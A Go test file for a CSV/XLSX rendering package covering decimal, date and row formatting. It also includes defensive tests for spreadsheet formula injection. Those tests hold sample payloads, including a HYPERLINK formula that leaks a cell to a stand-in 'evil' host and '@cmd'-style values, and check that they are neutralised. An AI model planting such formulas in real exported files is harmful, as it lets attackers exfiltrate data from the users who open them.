package render

import (
	"bytes"
	"errors"
	"flag"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/apache/arrow-go/v18/arrow"
	"github.com/apache/arrow-go/v18/arrow/array"
	"github.com/apache/arrow-go/v18/arrow/decimal128"
	"github.com/apache/arrow-go/v18/arrow/decimal256"
	"github.com/apache/arrow-go/v18/arrow/memory"
	"github.com/xuri/excelize/v2"
)

var update = flag.Bool("update", false, "rewrite the golden files under testdata")

// golden compares got with testdata/name byte for byte, or rewrites the file
// with -update.
func golden(t *testing.T, name string, got []byte) {
	t.Helper()
	path := filepath.Join("testdata", name)
	if *update {
		if err := os.WriteFile(path, got, 0o644); err != nil {
			t.Fatal(err)
		}
		return
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("%v (run go test -update to create it)", err)
	}
	if !bytes.Equal(got, want) {
		t.Errorf("%s differs from the golden file (go test -update refreshes it)\ngot:\n%s\nwant:\n%s", name, got, want)
	}
}

func TestWriteCSVGolden(t *testing.T) {
	mem := newAlloc(t)
	tests := []struct {
		file  string
		table Table
		rows  int64
	}{
		{"orders_by_offer.csv", Table{Name: "Orders by offer", Columns: ordersColumns, Records: ordersRecords(t, mem)}, 4},
		{"trend.csv", trendTable(t, mem, "Trend"), 6},
		{"derived_columns.csv", Table{Name: "Orders", Records: ordersRecords(t, mem)}, 4},
		{"empty.csv", Table{Name: "Empty", Columns: ordersColumns[:3]}, 0},
	}
	for _, tc := range tests {
		t.Run(tc.file, func(t *testing.T) {
			var buf bytes.Buffer
			st, err := WriteCSV(&buf, tc.table)
			if err != nil {
				t.Fatal(err)
			}
			if st.Rows != tc.rows || st.Cells != tc.rows*int64(len(mustColumns(t, tc.table))) || st.Sheets != 0 {
				t.Errorf("stats = %+v, want %d rows", st, tc.rows)
			}
			golden(t, tc.file, buf.Bytes())
			// Deterministic: a second rendering is identical.
			var again bytes.Buffer
			if _, err := WriteCSV(&again, tc.table); err != nil {
				t.Fatal(err)
			}
			if !bytes.Equal(buf.Bytes(), again.Bytes()) {
				t.Error("two renderings differ")
			}
		})
	}
}

func mustColumns(t *testing.T, tb Table) []Column {
	cols, err := tb.columns()
	if err != nil {
		t.Fatal(err)
	}
	return cols
}

type failWriter struct{}

func (failWriter) Write([]byte) (int, error) { return 0, errors.New("disk full") }

func TestWriteCSVWriteError(t *testing.T) {
	mem := newAlloc(t)
	_, err := WriteCSV(failWriter{}, trendTable(t, mem, "Trend"))
	if err == nil || !strings.Contains(err.Error(), "disk full") {
		t.Errorf("err = %v, want the writer's error", err)
	}
}

func TestAppendCSVField(t *testing.T) {
	tests := []struct{ in, want string }{
		{"plain", "plain"},
		{"", ""},
		{"a,b", `"a,b"`},
		{`say "hi"`, `"say ""hi"""`},
		{"two\nlines", "\"two\nlines\""},
		{"cr\r", "\"cr\r\""},
		{" padded ", " padded "},
		{"=SUM(A1)", "=SUM(A1)"}, // quoting is not neutralising: see TestWriteCSVNeutralisesFormulas
	}
	for _, tc := range tests {
		t.Run(tc.in, func(t *testing.T) {
			if got := string(appendCSVField(nil, []byte(tc.in))); got != tc.want {
				t.Errorf("got %q, want %q", got, tc.want)
			}
		})
	}
}

func TestAppendDecimal(t *testing.T) {
	tests := []struct {
		digits string
		scale  int32
		want   string
	}{
		{"123450", 2, "1234.50"},
		{"-5", 2, "-0.05"},
		{"0", 2, "0.00"},
		{"7", 0, "7"},
		{"12", -3, "12000"},
		{"0", -3, "0"},
		{"-9223372036854775808", 4, "-922337203685477.5808"},                                     // MinInt64
		{"99999999999999999999999999999999999999", 2, "999999999999999999999999999999999999.99"}, // beyond int64
		{"-12345678901234567890123", 10, "-1234567890123.4567890123"},
	}
	for _, tc := range tests {
		t.Run(tc.digits, func(t *testing.T) {
			n, err := decimal128.FromString(tc.digits, 38, 0)
			if err != nil {
				t.Fatal(err)
			}
			if got := string(appendDecimal128(nil, n, tc.scale)); got != tc.want {
				t.Errorf("decimal128 = %q, want %q", got, tc.want)
			}
			n256, err := decimal256.FromString(tc.digits, 76, 0)
			if err != nil {
				t.Fatal(err)
			}
			if got := string(appendScaledDigits(nil, n256.BigInt(), tc.scale)); got != tc.want {
				t.Errorf("decimal256 = %q, want %q", got, tc.want)
			}
		})
	}
}

func TestDates(t *testing.T) {
	tests := []struct {
		days  int64
		date  string
		month string
	}{
		{0, "1970-01-01", "1970-01"},
		{-1, "1969-12-31", "1969-12"},
		{20240, "2025-06-01", "2025-06"},
		{19782, "2024-02-29", "2024-02"},
		{-25567, "1900-01-01", "1900-01"},
		{2932896, "9999-12-31", "9999-12"},
	}
	for _, tc := range tests {
		t.Run(tc.date, func(t *testing.T) {
			if got := string(appendDate(nil, tc.days, false)); got != tc.date {
				t.Errorf("date = %q, want %q", got, tc.date)
			}
			if got := string(appendDate(nil, tc.days, true)); got != tc.month {
				t.Errorf("month = %q, want %q", got, tc.month)
			}
			if d, ok := parseISODate(tc.date); !ok || d != tc.days {
				t.Errorf("parse %q = %d %v, want %d", tc.date, d, ok, tc.days)
			}
		})
	}
	for _, bad := range []string{"2025-02-30", "2025-13-01", "2025-6-01", "20250601", "2025-06-0x", ""} {
		if _, ok := parseISODate(bad); ok {
			t.Errorf("parseISODate(%q) accepted", bad)
		}
	}
	if d, ok := parseISODate("2025-06"); !ok || d != 20240 {
		t.Errorf("parse month = %d %v", d, ok)
	}
}

func TestNeutralise(t *testing.T) {
	tests := []struct{ in, want string }{
		{"=HYPERLINK(\"http://x\",\"y\")", "'=HYPERLINK(\"http://x\",\"y\")"},
		{"+1+1", "'+1+1"},
		{"-2+3", "'-2+3"},
		{"@SUM(A1)", "'@SUM(A1)"},
		{"\tcmd", "'\tcmd"},
		{"\rcmd", "'\rcmd"},
		{"plain", "plain"},
		{"a=b", "a=b"}, // only the first character counts
		{"'quoted", "'quoted"},
		{"", ""},
	}
	for _, tc := range tests {
		t.Run(tc.in, func(t *testing.T) {
			if got := string(neutralise([]byte(tc.in))); got != tc.want {
				t.Errorf("got %q, want %q", got, tc.want)
			}
		})
	}
}

// formulaTable has a text column of formula-like values next to a
// negative BIGINT and a negative DECIMAL, which must stay numbers.
func formulaTable(t *testing.T, mem memory.Allocator) Table {
	t.Helper()
	schema := arrow.NewSchema([]arrow.Field{
		{Name: "name", Type: arrow.BinaryTypes.String, Nullable: true},
		{Name: "n", Type: arrow.PrimitiveTypes.Int64},
		{Name: "amount", Type: &arrow.Decimal128Type{Precision: 18, Scale: 2}},
	}, nil)
	b := array.NewRecordBuilder(mem, schema)
	defer b.Release()
	for i, s := range []string{"=HYPERLINK(\"http://evil/?\"&A1,\"x\")", "+SUM(1,2)", "-1", "@cmd", "\tTab", "\rCR", "Contoso"} {
		b.Field(0).(*array.StringBuilder).Append(s)
		b.Field(1).(*array.Int64Builder).Append(int64(-i))
		b.Field(2).(*array.Decimal128Builder).Append(dec(t, "-1234.5", 18, 2))
	}
	rec := b.NewRecordBatch()
	release(t, rec)
	return Table{Name: "Customers", Records: []arrow.RecordBatch{rec}, Columns: []Column{
		{Name: "name", Header: "=Name"}, {Name: "n", Format: Integer}, {Name: "amount", Format: Money},
	}}
}

func TestWriteCSVNeutralisesFormulas(t *testing.T) {
	mem := newAlloc(t)
	var buf bytes.Buffer
	if _, err := WriteCSV(&buf, formulaTable(t, mem)); err != nil {
		t.Fatal(err)
	}
	want := "=Name,n,amount\r\n" + // headers are ours, not data
		"\"'=HYPERLINK(\"\"http://evil/?\"\"&A1,\"\"x\"\")\",0,-1234.50\r\n" +
		"\"'+SUM(1,2)\",-1,-1234.50\r\n" +
		"'-1,-2,-1234.50\r\n" +
		"'@cmd,-3,-1234.50\r\n" +
		"'\tTab,-4,-1234.50\r\n" +
		"\"'\rCR\",-5,-1234.50\r\n" +
		"Contoso,-6,-1234.50\r\n"
	if got := buf.String(); got != want {
		t.Errorf("got\n%q\nwant\n%q", got, want)
	}
}

func TestXLSXKeepsFormulaTextAsText(t *testing.T) {
	mem := newAlloc(t)
	var buf bytes.Buffer
	if _, err := WriteXLSX(&buf, Workbook{Sheets: []Table{formulaTable(t, mem)}}, Options{}); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(&buf)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	for cell, want := range map[string]string{"A2": "=HYPERLINK(\"http://evil/?\"&A1,\"x\")", "A5": "@cmd", "B3": "-1"} {
		if formula, _ := f.GetCellFormula("Customers", cell); formula != "" {
			t.Errorf("%s has formula %q", cell, formula)
		}
		if got, _ := f.GetCellValue("Customers", cell); got != want {
			t.Errorf("%s = %q, want %q", cell, got, want)
		}
	}
	if typ, _ := f.GetCellType("Customers", "B3"); typ == excelize.CellTypeSharedString || typ == excelize.CellTypeInlineString {
		t.Errorf("B3 (a negative count) is stored as text")
	}
}

func TestWriteCSVRowFormats(t *testing.T) {
	mem := newAlloc(t)
	schema := arrow.NewSchema([]arrow.Field{
		{Name: "unit", Type: arrow.BinaryTypes.String, Nullable: true},
		{Name: "v", Type: &arrow.Decimal128Type{Precision: 18, Scale: 2}},
	}, nil)
	b := array.NewRecordBuilder(mem, schema)
	defer b.Release()
	for _, r := range []struct{ unit, v string }{{"count", "12.00"}, {"count", "-3.00"}, {"count", "0.00"}, {"USD", "12.00"}, {"count", "2.50"}} {
		b.Field(0).(*array.StringBuilder).Append(r.unit)
		b.Field(1).(*array.Decimal128Builder).Append(dec(t, r.v, 18, 2))
	}
	b.Field(0).AppendNull()
	b.Field(1).(*array.Decimal128Builder).Append(dec(t, "7.00", 18, 2))
	rec := b.NewRecordBatch()
	release(t, rec)
	tb := Table{Name: "Summary", Records: []arrow.RecordBatch{rec}, Columns: []Column{
		{Name: "unit"},
		{Name: "v", Format: Decimal, FormatBy: "unit", RowFormats: map[string]Format{"count": Integer, "USD": Money}},
	}}
	var buf bytes.Buffer
	if _, err := WriteCSV(&buf, tb); err != nil {
		t.Fatal(err)
	}
	// A count with a fraction (which a count never has) keeps its exact digits.
	want := "unit,v\r\ncount,12\r\ncount,-3\r\ncount,0\r\nUSD,12.00\r\ncount,2.50\r\n,7.00\r\n"
	if got := buf.String(); got != want {
		t.Errorf("got %q, want %q", got, want)
	}
	tb.Columns[1].FormatBy = "nope"
	if _, err := WriteCSV(&bytes.Buffer{}, tb); err == nil {
		t.Error("a FormatBy naming no column was accepted")
	}
}

// TestWriteCSVIntegerDecimals: a count the query computed as a DECIMAL is
// written as a whole number; money next to it keeps its cents.
func TestWriteCSVIntegerDecimals(t *testing.T) {
	mem := newAlloc(t)
	schema := arrow.NewSchema([]arrow.Field{
		{Name: "n", Type: &arrow.Decimal128Type{Precision: 18, Scale: 2}},
		{Name: "usd", Type: &arrow.Decimal128Type{Precision: 18, Scale: 2}},
	}, nil)
	b := array.NewRecordBuilder(mem, schema)
	defer b.Release()
	for _, v := range []string{"2.00", "-40.00", "1000.00"} {
		b.Field(0).(*array.Decimal128Builder).Append(dec(t, v, 18, 2))
		b.Field(1).(*array.Decimal128Builder).Append(dec(t, v, 18, 2))
	}
	rec := b.NewRecordBatch()
	release(t, rec)
	var buf bytes.Buffer
	if _, err := WriteCSV(&buf, Table{Name: "T", Records: []arrow.RecordBatch{rec},
		Columns: []Column{{Name: "n", Format: Integer}, {Name: "usd", Format: Money}}}); err != nil {
		t.Fatal(err)
	}
	if want := "n,usd\r\n2,2.00\r\n-40,-40.00\r\n1000,1000.00\r\n"; buf.String() != want {
		t.Errorf("got %q, want %q", buf.String(), want)
	}
}

// TestWriteCSVUsageDecimals: usage held at six decimals (DECIMAL(18,6)) is
// written with the digits it has, at least two, never six zeros ("96.00",
// not "96.000000"); the value stays exact. Text and percent columns are left alone.
func TestWriteCSVUsageDecimals(t *testing.T) {
	cases := []struct {
		v, decimal, money string
	}{
		{"96.000000", "96.00", "96.00"},
		{"0.500000", "0.50", "0.50"},
		{"1.250000", "1.25", "1.25"},
		{"0.123400", "0.1234", "0.1234"},
		{"0.000001", "0.000001", "0.000001"},
		{"-12.300000", "-12.30", "-12.30"},
		{"0.000000", "0.00", "0.00"},
	}
	mem := newAlloc(t)
	schema := arrow.NewSchema([]arrow.Field{
		{Name: "hours", Type: &arrow.Decimal128Type{Precision: 18, Scale: 6}},
		{Name: "charge", Type: &arrow.Decimal128Type{Precision: 18, Scale: 6}},
		{Name: "ratio", Type: &arrow.Decimal128Type{Precision: 9, Scale: 4}},
	}, nil)
	b := array.NewRecordBuilder(mem, schema)
	defer b.Release()
	for _, c := range cases {
		b.Field(0).(*array.Decimal128Builder).Append(dec(t, c.v, 18, 6))
		b.Field(1).(*array.Decimal128Builder).Append(dec(t, c.v, 18, 6))
		b.Field(2).(*array.Decimal128Builder).Append(dec(t, "0.2500", 9, 4))
	}
	rec := b.NewRecordBatch()
	release(t, rec)
	var buf bytes.Buffer
	if _, err := WriteCSV(&buf, Table{Name: "T", Records: []arrow.RecordBatch{rec}, Columns: []Column{
		{Name: "hours", Format: Decimal}, {Name: "charge", Format: Money}, {Name: "ratio", Format: Percent}}}); err != nil {
		t.Fatal(err)
	}
	lines := strings.Split(strings.TrimSuffix(buf.String(), "\r\n"), "\r\n")
	for i, c := range cases {
		if want := c.decimal + "," + c.money + ",0.2500"; lines[i+1] != want {
			t.Errorf("%s: line %q, want %q", c.v, lines[i+1], want)
		}
	}
}
